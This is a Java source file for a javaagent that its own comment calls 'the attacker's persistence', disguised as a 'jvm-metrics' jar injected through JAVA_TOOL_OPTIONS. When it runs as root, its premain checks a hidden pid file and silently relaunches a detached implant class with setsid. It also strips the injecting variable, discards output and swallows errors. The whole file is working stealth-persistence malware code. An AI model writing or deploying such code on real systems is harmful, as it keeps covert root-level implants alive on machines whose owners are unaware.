package jvmmetrics;

import java.io.File;
import java.util.*;

/**
 * The attacker's persistence (JAVA_TOOL_OPTIONS=-javaagent:/usr/share/java/jvm-metrics.jar in
 * /etc/default/stillroom): in a JVM of uid 0 with no implant alive, starts the implant
 * (setsid java -cp the jar jvmmetrics.Sync) without JAVA_TOOL_OPTIONS; otherwise does nothing.
 */
public class Agent {
    public static void premain(String arg) {
        try {
            if (!"0".equals(new com.sun.security.auth.module.UnixSystem().getUid() + "")) return;
            File pid = new File("/run/.jvm-metrics.pid");
            if (pid.exists() && new File("/proc/" + new String(java.nio.file.Files.readAllBytes(pid.toPath())).trim()).exists()) return;
            String jar = Agent.class.getProtectionDomain().getCodeSource().getLocation().getPath();
            ProcessBuilder pb = new ProcessBuilder("/usr/bin/setsid", "/usr/bin/java", "-Xmx32m", "-cp", jar, "jvmmetrics.Sync");
            pb.environment().remove("JAVA_TOOL_OPTIONS");
            pb.redirectErrorStream(true).redirectOutput(new File("/dev/null")).redirectInput(new File("/dev/null"));
            Process p = pb.start();
            java.nio.file.Files.write(pid.toPath(), (p.pid() + "\n").getBytes());
        } catch (Throwable e) { }
    }
}
